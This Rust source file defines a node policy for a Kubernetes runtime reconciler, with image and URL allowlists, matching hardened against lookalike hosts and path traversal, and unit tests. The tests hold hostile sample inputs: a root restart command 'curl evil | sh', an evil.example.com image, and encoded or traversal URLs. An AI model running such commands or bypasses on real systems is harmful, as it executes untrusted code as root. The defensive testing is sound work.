//! What a reconciler lets a repository do to its cluster's nodes. A node runtime's installer runs
//! privileged with the host's root mounted, so the repository's authors do not choose what runs
//! there: the operator of the reconciler does, with a policy given to it (`--node-policy FILE`),
//! never read from the repository.
//!
//! ```yaml
//! installerImages:              # exact references (pinned by digest) or repository prefixes
//!   - registry.example.com/platform/spindle-node-installer@sha256:0123…
//!   - registry.example.com/platform/
//! shimUrls:                     # prefixes of the URLs shims may be downloaded from
//!   - https://github.com/spindle-dev/spindle/releases/download/
//! allowRestartCommand: false    # containerd.restartCommand: a shell command run as root
//! allowOutsideHost: false       # containerd.enterHost = false
//! allowOptions: false           # containerd runtime options for the handler
//! allowContainerdPaths: false   # containerd.config, .socket and .shimDir: paths on the node
//! allowControlPlane: false      # control-plane nodes may be selected
//! ```

use std::path::Path;

use anyhow::{Context as _, Result};
use serde::{Deserialize, Serialize};
use spindle_schema::{Platform, Problem, Runtime, pointer_segment};

use super::nodes::Node;

/// Labels that mark a control-plane node (`master` on Kubernetes before 1.24).
pub const CONTROL_PLANE_LABELS: [&str; 2] = [
    "node-role.kubernetes.io/control-plane",
    "node-role.kubernetes.io/master",
];

/// The node runtimes a reconciler installs. Everything not allowed here is refused.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub struct NodePolicy {
    /// Installer images a runtime's `shim.image` may name: an exact reference, or a
    /// registry/repository prefix (matched at a `/`, `:` or `@`). The reconciler's own
    /// `--installer-image` is always allowed.
    #[serde(default)]
    pub installer_images: Vec<String>,
    /// Prefixes of the URLs a runtime's `shim.url` may name (matched at a `/`).
    #[serde(default)]
    pub shim_urls: Vec<String>,
    /// Whether `containerd.restartCommand` (a shell command run as root on the node) is allowed.
    #[serde(default)]
    pub allow_restart_command: bool,
    /// Whether `containerd.enterHost = false` is allowed.
    #[serde(default)]
    pub allow_outside_host: bool,
    /// Whether runtime `options` (containerd's options for the handler) are allowed.
    #[serde(default)]
    pub allow_options: bool,
    /// Whether `containerd.config`, `.socket` and `.shimDir` (files root writes, edits and
    /// removes on the node) may be set; without it the distribution's paths are used.
    #[serde(default)]
    pub allow_containerd_paths: bool,
    /// Whether control-plane nodes may get the runtime.
    #[serde(default)]
    pub allow_control_plane: bool,
}

impl NodePolicy {
    /// Reads a policy file (YAML or JSON).
    pub fn read(path: &Path) -> Result<NodePolicy> {
        let text = std::fs::read_to_string(path)
            .with_context(|| format!("cannot read the node policy {}", path.display()))?;
        NodePolicy::parse(&text, path)
    }

    /// A policy from its text, read from `path` (named in errors).
    pub fn parse(text: &str, path: &Path) -> Result<NodePolicy> {
        serde_yaml::from_str(text)
            .with_context(|| format!("{} is not a node policy", path.display()))
    }

    /// What every runtime of `platform` asks for beyond this policy.
    pub fn check_platform(&self, platform: &Platform) -> Vec<Problem> {
        platform
            .runtimes
            .iter()
            .flat_map(|(name, runtime)| self.check(name, runtime))
            .collect()
    }

    /// What runtime `name` asks for beyond this policy, each at its place in the environment.
    pub fn check(&self, name: &str, runtime: &Runtime) -> Vec<Problem> {
        let at = format!("/runtimes/{}", pointer_segment(name));
        let mut problems = Vec::new();
        let mut refuse = |pointer: &str, message: String| {
            problems.push(Problem {
                pointer: format!("{at}{pointer}"),
                message: format!("runtime `{name}`: {message}"),
            })
        };
        if let Some(image) = &runtime.shim.image
            && !self
                .installer_images
                .iter()
                .any(|p| image_allowed(p, image))
        {
            refuse(
                "/shim/image",
                format!(
                    "installer image `{image}` is not allowed by the node policy (allowed: {})",
                    shown(&self.installer_images)
                ),
            );
        }
        if let Some(url) = &runtime.shim.url
            && !self.shim_urls.iter().any(|p| url_allowed(p, url))
        {
            refuse(
                "/shim/url",
                format!(
                    "shim URL `{url}` is not allowed by the node policy (allowed: {})",
                    shown(&self.shim_urls)
                ),
            );
        }
        if let Some(containerd) = &runtime.containerd {
            if containerd.restart_command.is_some() && !self.allow_restart_command {
                refuse(
                    "/containerd/restartCommand",
                    "`restartCommand` runs a shell command as root on the nodes; the node \
                     policy does not allow it (allowRestartCommand)"
                        .to_owned(),
                );
            }
            let paths = [
                ("config", containerd.config.is_some()),
                ("socket", containerd.socket.is_some()),
                ("shimDir", containerd.shim_dir.is_some()),
            ];
            for (field, set) in paths {
                if set && !self.allow_containerd_paths {
                    refuse(
                        &format!("/containerd/{field}"),
                        format!(
                            "`{field}` names a path root writes on the nodes; the node policy \
                             does not allow it (allowContainerdPaths)"
                        ),
                    );
                }
            }
            if !containerd.enter_host && !self.allow_outside_host {
                refuse(
                    "/containerd/enterHost",
                    "`enterHost = false` is not allowed by the node policy (allowOutsideHost)"
                        .to_owned(),
                );
            }
        }
        if !runtime.options.is_empty() && !self.allow_options {
            refuse(
                "/options",
                "containerd runtime `options` are not allowed by the node policy (allowOptions)"
                    .to_owned(),
            );
        }
        if !self.allow_control_plane
            && CONTROL_PLANE_LABELS
                .iter()
                .any(|label| runtime.node_selector.contains_key(*label))
        {
            refuse(
                "/nodeSelector",
                "control-plane nodes are not allowed by the node policy (allowControlPlane)"
                    .to_owned(),
            );
        }
        problems
    }

    /// Whether the runtime may be installed on `node`.
    pub fn admits(&self, node: &Node) -> bool {
        self.allow_control_plane || !is_control_plane(node)
    }
}

/// Whether `node` carries a control-plane role label.
pub fn is_control_plane(node: &Node) -> bool {
    CONTROL_PLANE_LABELS
        .iter()
        .any(|label| node.labels.contains_key(*label))
}

fn shown(allowed: &[String]) -> String {
    if allowed.is_empty() {
        "none".to_owned()
    } else {
        allowed.join(", ")
    }
}

/// `image` is `allowed`, or lies under it. `registry/path/` (a trailing `/`) or a registry alone
/// allows every repository under it; `registry/repository` allows that repository's tags and
/// digests only (on many registries `repository/x` is another repository, with its own owners).
/// A registry alone never matches another port, and names are compared as written.
fn image_allowed(allowed: &str, image: &str) -> bool {
    let under = allowed.ends_with('/') || !allowed.contains('/');
    let allowed = allowed.trim_end_matches('/');
    let Some(rest) = image.strip_prefix(allowed) else {
        return false;
    };
    if under && rest.starts_with('/') {
        return true;
    }
    rest.is_empty() || (allowed.contains('/') && (rest.starts_with(':') || rest.starts_with('@')))
}

/// `url` is `allowed`, or continues it after a `/` (so `https://host` does not allow
/// `https://host.evil` or `https://host@evil`). A URL that a URL parser could read as another
/// path than it spells (`..` or `.` segments, percent-encoding, backslashes, white space or
/// control characters, user info) is never allowed, whatever the prefix.
fn url_allowed(allowed: &str, url: &str) -> bool {
    let ambiguous = url
        .chars()
        .any(|c| matches!(c, '%' | '\\' | '@') || c.is_whitespace() || c.is_control());
    if ambiguous
        || url
            .split(['/', '?', '#'])
            .any(|segment| segment == ".." || segment == ".")
    {
        return false;
    }
    let Some(rest) = url.strip_prefix(allowed) else {
        return false;
    };
    rest.is_empty() || allowed.ends_with('/') || rest.starts_with('/')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_match_exactly_or_under_a_repository_or_registry() {
        let pinned = "reg.example.com/platform/installer@sha256:abc";
        assert!(image_allowed(pinned, pinned));
        assert!(!image_allowed(
            pinned,
            "reg.example.com/platform/installer@sha256:abd"
        ));
        assert!(image_allowed(
            "reg.example.com/platform/",
            "reg.example.com/platform/installer:1"
        ));
        assert!(image_allowed(
            "reg.example.com/platform/installer",
            "reg.example.com/platform/installer@sha256:abc"
        ));
        assert!(!image_allowed(
            "reg.example.com/platform",
            "reg.example.com/platform-evil/installer:1"
        ));
        assert!(image_allowed("reg.example.com", "reg.example.com/x/y:1"));
        assert!(!image_allowed(
            "reg.example.com/platform/installer",
            "reg.example.com/platform/installer/evil:1"
        ));
        assert!(!image_allowed(
            "reg.example.com",
            "reg.example.com:5000/x:1"
        ));
        assert!(!image_allowed(
            "reg.example.com",
            "reg.example.com.evil/x:1"
        ));
    }

    #[test]
    fn urls_match_at_a_path_boundary() {
        let base = "https://github.com/spindle-dev/spindle/releases/download/";
        assert!(url_allowed(base, &format!("{base}v1/shim")));
        assert!(!url_allowed(base, &format!("{base}../../evil/shim")));
        assert!(url_allowed(
            "https://dl.example.com",
            "https://dl.example.com/shim"
        ));
        assert!(!url_allowed(
            "https://dl.example.com",
            "https://dl.example.com.evil/shim"
        ));
        assert!(!url_allowed(
            "https://dl.example.com",
            "https://dl.example.com@evil/shim"
        ));
        for sneaky in [
            "%2e%2e/%2e%2e/%2e%2e/%2e%2e/evil/x/shim",
            "..\\..\\..\\evil/shim",
            "./../evil/shim",
            "v1/shim\t",
            "v1/sh\nim",
        ] {
            assert!(!url_allowed(base, &format!("{base}{sneaky}")), "{sneaky}");
        }
    }

    #[test]
    fn escape_hatches_are_refused_at_their_place_unless_allowed() {
        let runtime: Runtime = serde_json::from_value(serde_json::json!({
            "shim": {"version": "1", "image": "evil.example.com/x:1", "sha256": "a".repeat(64)},
            "options": {"SystemdCgroup": true},
            "nodeSelector": {"node-role.kubernetes.io/control-plane": ""},
            "containerd": {"restartCommand": "curl evil | sh", "enterHost": false},
        }))
        .unwrap();
        let pointers: Vec<String> = NodePolicy::default()
            .check("spin", &runtime)
            .into_iter()
            .map(|p| p.pointer)
            .collect();
        assert_eq!(
            pointers,
            [
                "/runtimes/spin/shim/image",
                "/runtimes/spin/containerd/restartCommand",
                "/runtimes/spin/containerd/enterHost",
                "/runtimes/spin/options",
                "/runtimes/spin/nodeSelector",
            ]
        );
        let open = NodePolicy {
            installer_images: vec!["evil.example.com/".into()],
            shim_urls: vec![],
            allow_restart_command: true,
            allow_outside_host: true,
            allow_options: true,
            allow_containerd_paths: true,
            allow_control_plane: true,
        };
        assert!(open.check("spin", &runtime).is_empty());
    }
}
